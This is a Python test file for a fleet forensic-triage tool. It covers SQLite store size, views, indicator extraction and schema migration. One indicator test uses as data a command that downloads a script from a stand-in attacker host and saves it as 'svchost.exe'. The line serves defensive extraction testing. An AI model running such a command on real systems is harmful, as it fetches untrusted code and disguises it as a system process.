"""The compact store (schema 2): its size, its views answering schema-1 questions, and the migration
of a schema-1 store (built here with the schema-1 DDL from the session fleet's real summaries)."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest
from _fleet_helpers import HOSTS

from triage.fleet import score, stacking
from triage.fleet.store import FACTS, ROW_COLUMNS, _dicts, _text, indicators, open_store, summary_rows

V1_SQL = Path(__file__).parent / "data" / "fleet_schema_v1.sql"
V1_EVENTS = ("timestamp_utc", "channel", "provider", "event_id", "record_id", "computer", "category",
             "description", "fields", "bundle_path", "locator")


def _store_bytes(path: Path) -> int:
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return path.stat().st_size


def test_store_is_at_most_200_kb_per_host(fleet, tmp_path):
    copy = tmp_path / "fleet.sqlite"
    src = sqlite3.connect(fleet.out / "fleet.sqlite")
    dst = sqlite3.connect(copy)
    src.backup(dst)
    src.close()
    dst.close()
    per_host = _store_bytes(copy) / HOSTS
    print(f"fleet.sqlite: {per_host / 1024:.0f} KiB per host on {HOSTS} hosts")
    assert per_host <= 200 * 1024


def test_views_answer_with_the_summaries_text(fleet):
    """A view row reads back the summary's own values (interning loses nothing)."""
    with fleet.db() as conn:
        host_dir, bid = conn.execute("SELECT host_dir, id FROM bundles WHERE status = 'ok' ORDER BY id").fetchone()
        summary = json.loads((fleet.out / host_dir / "summary.json").read_text())
        got = [tuple(r) for r in conn.execute(f"SELECT {', '.join(ROW_COLUMNS['autoruns'])} FROM autoruns"
                                              " WHERE bundle_id = ? ORDER BY id", (bid,))]
        assert got == summary_rows(summary)["autoruns"]
        events = conn.execute("SELECT timestamp_utc, record_id, bundle_path, locator FROM events WHERE bundle_id = ?"
                              " ORDER BY id", (bid,)).fetchall()
        assert [(e["timestamp"], e["record_id"], e["bundle_path"], e["locator"]) for e in summary["events"]] == \
            [tuple(e) for e in events]


def test_indicators_from_event_fields():
    found = indicators({"ip": "10.0.0.12", "client": "::ffff:192.0.2.7", "host": "DC1.Corp.Example.com.",
                        "cmd": "curl http://evil.example.net/x.ps1 -o C:\\t\\svchost.exe", "v6": "fe80::1%12",
                        "n": 445, "nested": [{"a": "LOCAL"}, "1.2.3.4.5"], "file": "System.evtx",
                        "mail": "bob@mail.example.org", "odd": "\u0130\u0130\u0130 x.evil.com \u0130", "t": "12:34:56",
                        "tail": "my_file.example"})
    assert found == {"10.0.0.12", "192.0.2.7", "dc1.corp.example.com", "evil.example.net", "fe80::1",
                     "mail.example.org", "x.evil.com"}
    assert "1.2.3.4" not in found  # part of a longer dotted number


LATER_COLUMNS = {("findings", "count"), ("findings", "noise")}


def _v1_store(fleet, path: Path) -> None:
    """A schema-1 store holding what the first run holds, written with the schema-1 DDL and rows."""
    conn = sqlite3.connect(path)
    conn.executescript(V1_SQL.read_text())
    conn.execute("INSERT INTO meta VALUES ('schema_version', '1')")
    with fleet.db() as new:
        for r in new.execute("SELECT id, name, reported_name, os, score, score_explained FROM hosts"):
            conn.execute("INSERT INTO hosts VALUES (?,?,?,?,?,?)", tuple(r))
        cols = ("id, sha256, analyzer_version, path, size, status, error, host_id, host_dir, analyzed_utc, duration_s,"
                " cpu_s, peak_rss_bytes, worker, collection_started_utc, collection_finished_utc")
        for r in new.execute(f"SELECT {cols} FROM bundles"):
            conn.execute(f"INSERT INTO bundles ({cols}) VALUES ({','.join('?' * 16)})", tuple(r))
        v1_tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        for table in FACTS:
            if table == "events" or table not in v1_tables:  # tables added after schema 1 (artifact_items)
                continue
            v1_cols = {r[1] for r in conn.execute(f"PRAGMA table_info({table})")}
            names = tuple(n for n in ROW_COLUMNS[table] if n in v1_cols)  # findings.count/noise came later
            rows = new.execute(f"SELECT host_id, bundle_id, {', '.join(names)} FROM {table} ORDER BY id").fetchall()
            conn.executemany(f"INSERT INTO {table} (host_id, bundle_id, {', '.join(names)})"
                             f" VALUES ({','.join('?' * (len(names) + 2))})", [tuple(r) for r in rows])
        for bid, hid, host_dir in new.execute("SELECT id, host_id, host_dir FROM bundles WHERE status = 'ok'"):
            summary = json.loads((fleet.out / host_dir / "summary.json").read_text())
            conn.executemany(
                f"INSERT INTO events (host_id, bundle_id, {', '.join(V1_EVENTS)}) VALUES ({','.join('?' * 13)})",
                [(hid, bid, e.get("timestamp"), e.get("channel"), e.get("provider"), e.get("event_id"),
                  e.get("record_id"), e.get("computer"), e.get("category"), e.get("description"),
                  _text(e.get("fields")), e.get("bundle_path"), e.get("locator")) for e in _dicts(summary["events"])])
    conn.commit()
    conn.close()


@pytest.fixture(scope="module")
def migrated(fleet, tmp_path_factory):
    path = tmp_path_factory.mktemp("v1") / "fleet.sqlite"
    _v1_store(fleet, path)
    old = sqlite3.connect(path)
    v1_tables = {r[0] for r in old.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    counts = {t: old.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0] for t in FACTS if t in v1_tables}
    old.close()
    v1_bytes = _store_bytes(path)
    conn = open_store(path)
    yield conn, counts, v1_bytes, path
    conn.close()


def test_migration_keeps_every_row_and_shrinks_the_file(migrated, fleet):
    conn, counts, v1_bytes, path = migrated
    assert conn.execute("SELECT value FROM meta WHERE key = 'schema_version'").fetchone()[0] == "2"
    assert conn.execute("SELECT type FROM sqlite_master WHERE name = 'autoruns'").fetchone()[0] == "view"
    for table, n in counts.items():
        assert conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0] == n, table
    assert conn.execute("SELECT COUNT(*) FROM findings WHERE count IS NOT NULL OR noise IS NOT NULL").fetchone()[0] == 0
    with fleet.db() as new:
        for table in FACTS:
            if table not in counts and table != "events":  # added after schema 1: a v1 store never had them
                assert conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0] == 0, table
                continue
            # a schema-1 store has no findings.count/noise: they are NULL after the migration
            cols = ", ".join(c for c in ROW_COLUMNS[table] if (table, c) not in LATER_COLUMNS)
            def rows(c, table=table, cols=cols):  # the migration loads bundle by bundle: ids may differ
                return sorted((tuple(r) for r in c.execute(f"SELECT host_id, bundle_id, {cols} FROM {table}")), key=repr)

            assert rows(conn) == rows(new), table
        assert conn.execute("SELECT COUNT(*) FROM event_indicators").fetchone()[0] == \
            new.execute("SELECT COUNT(*) FROM event_indicators").fetchone()[0]
    assert _store_bytes(path) < v1_bytes / 2


def test_migrated_store_stacks_and_scores_as_the_first_run(migrated, fleet):
    conn, *_ = migrated
    total = stacking.fleet_hosts(conn)
    stacking.record_rare(conn, stacking.rare_threshold(None, total))
    ranked = [(h.host, h.score) for h in score.compute_scores(conn)]
    assert ranked == fleet.ranking
